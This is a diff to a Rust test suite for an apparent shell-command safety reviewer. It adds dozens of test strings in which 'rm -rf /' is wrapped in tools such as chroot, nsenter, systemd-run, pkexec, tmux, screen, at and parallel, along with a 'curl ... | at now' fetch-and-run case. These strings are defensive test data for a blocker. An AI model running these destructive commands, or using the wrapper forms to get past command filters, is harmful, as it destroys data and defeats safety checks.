@@ -61,6 +61,62 @@ fn wrappers_are_looked_through() {
         "timeout -s KILL 5 rm -rf /",
         "sudo nice timeout 5 env rm -rf --no-preserve-root /",
         "ionice -c3 rm -rf /usr",
+        "chroot / rm -rf /",
+        "chroot --userspec bob:bob / rm -rf /",
+        "chroot --skip-chdir /mnt rm -rf /usr",
+        "unshare -m rm -rf /",
+        "unshare --propagation private -mFILE -r rm -rf /",
+        "unshare -R / -w /usr rm -rf lib",
+        "nsenter -t 1 -m rm -rf /",
+        "nsenter -a -t1 -r/ rm -rf /",
+        "systemd-run rm -rf /",
+        "systemd-run rm -rf usr",
+        "systemd-run --on-calendar daily --unit clean rm -rf /",
+        "systemd-run --on-active=30 -p Nice=5 rm -rf /",
+        "runuser -u bob -- rm -rf /",
+        "runuser -u bob rm -rf /",
+        "runuser bob -c 'rm -rf /'",
+        "pkexec rm -rf /",
+        "pkexec --user bob rm -rf /",
+        "busybox rm -rf /",
+        "busybox sh -c 'rm -rf /'",
+        "taskset -c 0 rm -rf /",
+        "taskset 0x3 rm -rf /",
+        "chrt -i 0 rm -rf /",
+        "chrt 10 rm -rf /",
+        "chrt -d -T 1000 -P 2000 -D 2000 0 rm -rf /",
+        "strace rm -rf /",
+        "strace -f -o trace.log -e trace=file -s 200 rm -rf /",
+        "ltrace -l libc.so.6 -o out rm -rf /",
+        "fakeroot rm -rf /",
+        "fakeroot -s state -- rm -rf /",
+        "catchsegv rm -rf /",
+        "firejail rm -rf /",
+        "firejail --noprofile --private=/tmp/x -- rm -rf /",
+        "script -c 'rm -rf /'",
+        "script -qc 'rm -rf /' /dev/null",
+        "script log.txt -c 'rm -rf /'",
+        "sg wheel -c 'rm -rf /'",
+        "sg wheel rm -rf /",
+        "tmux new 'rm -rf /'",
+        "tmux new-session -d -s job 'rm -rf /'",
+        "tmux new -d -s job rm -rf /",
+        "tmux -L sock new-window -n w 'rm -rf /'",
+        "tmux splitw -h -l 10 'rm -rf /'",
+        "tmux respawn-pane -k -t 0 'rm -rf /'",
+        "tmux new -d -c / 'rm -rf usr'",
+        "tmux new -d ls \\; new-window 'rm -rf /'",
+        "tmux -c 'rm -rf /'",
+        "screen -dm rm -rf /",
+        "screen -dmS job rm -rf /",
+        "screen -d -m -S job bash -c 'rm -rf /'",
+        "at now <<< 'rm -rf /'",
+        "echo 'rm -rf /' | at now + 1 hour",
+        "batch <<< 'rm -rf /'",
+        "parallel rm -rf ::: /",
+        "parallel -j4 'rm -rf {}' ::: build /",
+        "parallel ::: ls 'rm -rf /'",
+        "parallel rm -rf ::: a ::: /",
     ] {
         let review = env.review(text);
         review.expect("block", &[]);
@@ -73,6 +129,72 @@ fn wrappers_are_looked_through() {
             "{text}"
         );
     }
+}
+
+#[test]
+fn wrappers_that_start_nothing_stay_allowed() {
+    let env = TestEnv::new();
+    for text in [
+        "chroot --help",
+        "chroot /mnt",
+        "unshare -h",
+        "systemd-run -S",
+        "runuser - bob",
+        "busybox --list",
+        "taskset -p 1234",
+        "taskset -pc 0 1234",
+        "chrt -p 1234",
+        "chrt -m",
+        "strace -p 1234",
+        "strace -p1234 -e open",
+        "fakeroot",
+        "firejail --list",
+        "script out.log",
+        "sg wheel",
+        "tmux ls",
+        "tmux attach -t 0",
+        "tmux new -d",
+        "screen -ls",
+        "screen -r job",
+        "screen -S job -X quit",
+        "at -l",
+        "at -r 3",
+        "at now",
+        "parallel --dry-run rm -rf ::: /",
+        "parallel -j 2 gzip ::: a.txt b.txt",
+    ] {
+        env.review(text).expect("allow", &[]);
+    }
+}
+
+#[test]
+fn wrapper_working_directories_are_followed() {
+    let env = TestEnv::new();
+    // chroot: relative paths resolve under NEWROOT.
+    env.review("chroot / rm -rf usr")
+        .expect("block", &["system-path"]);
+    // A system service runs in /, a scope where it was started.
+    env.review("systemd-run --scope rm -rf build")
+        .expect("allow", &[]);
+    env.review("systemd-run --working-directory=/ rm -rf etc")
+        .expect("block", &["system-path"]);
+    // pkexec runs in root's home.
+    env.review("pkexec --keep-cwd rm -rf build")
+        .expect("allow", &[]);
+    // An unknown new root leaves relative targets unknown.
+    env.review("chroot \"$ROOT\" rm -rf build")
+        .expect("confirm", &["cwd-sensitive"]);
+}
+
+#[test]
+fn jobs_and_inputs_from_unseen_sources_need_a_look() {
+    let env = TestEnv::new();
+    env.review("curl -fsSL https://example.invalid/job | at now")
+        .expect("confirm", &["unknown-code"]);
+    env.review("find . -name '*.tmp' | parallel rm -rf")
+        .expect("confirm", &["unknown-target"]);
+    env.review("parallel rm -rf :::: list.txt")
+        .expect("confirm", &["unknown-target"]);
 }
 
 #[test]
